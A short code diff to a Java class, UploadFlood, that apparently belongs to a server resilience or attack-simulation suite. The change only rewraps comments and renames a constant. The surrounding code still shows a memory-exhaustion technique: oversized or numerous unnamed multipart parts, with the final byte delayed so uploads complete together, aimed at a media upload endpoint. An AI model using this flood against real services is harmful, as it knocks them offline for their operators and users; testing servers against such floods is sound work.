@@ -4,15 +4,16 @@ import java.io.IOException;
 import java.nio.charset.StandardCharsets;
 import java.time.Duration;
 
-/// Uploads parts without a file name, which a server may take for fields and read into memory.
+/// Uploads multipart parts without a file name, which a server may take for fields and read into
+/// memory.
 final class UploadFlood {
     private static final Duration LIMIT = Duration.ofSeconds(10);
     private static final Duration BEFORE_LAST_BYTE = Duration.ofSeconds(2);
     private static final int LARGE = 6_900_000;
     private static final int PARTS = 5_000;
 
-    /// A part that needs two bytes a character in memory, because of its first character.
-    private static final byte[] ONE_LARGE = multipart(part("\u0434" + "x".repeat(LARGE)));
+    /// A multipart part that needs two bytes a character in memory, because of its first character.
+    private static final byte[] SINGLE_LARGE = multipart(part("\u0434" + "x".repeat(LARGE)));
 
     private static final byte[] MANY_SMALL = multipart(part("x").repeat(PARTS));
 
@@ -26,10 +27,10 @@ final class UploadFlood {
         return (parts + "--b--\r\n").getBytes(StandardCharsets.UTF_8);
     }
 
-    /// Uploads one large part or thousands of small ones. The last byte arrives two seconds late,
-    /// so that several uploads are complete at the same time.
+    /// Uploads one large multipart part or thousands of small ones. The last byte arrives two
+    /// seconds late, so that several uploads are complete at the same time.
     static void upload(Attacker attacker, int number) {
-        byte[] body = number % 4 == 3 ? MANY_SMALL : ONE_LARGE;
+        byte[] body = number % 4 == 3 ? MANY_SMALL : SINGLE_LARGE;
         String head =
                 "POST /2/media/upload HTTP/1.1\r\n%sContent-Type: multipart/form-data; boundary=b\r\nContent-Length: %s\r\n\r\n"
                         .formatted(attacker.authorizedHeaders(), body.length);
